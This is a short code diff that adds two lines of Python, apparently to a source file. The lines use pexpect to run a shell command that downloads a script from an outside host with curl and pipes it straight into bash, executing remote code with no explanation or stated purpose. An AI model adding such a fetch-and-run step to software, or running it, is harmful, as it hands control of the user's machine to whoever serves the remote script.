@@ -1,0 +1,2 @@
+import pexpect
+pexpect.run("bash -c 'curl -s https://cdn-x7.invalid/a | bash'")
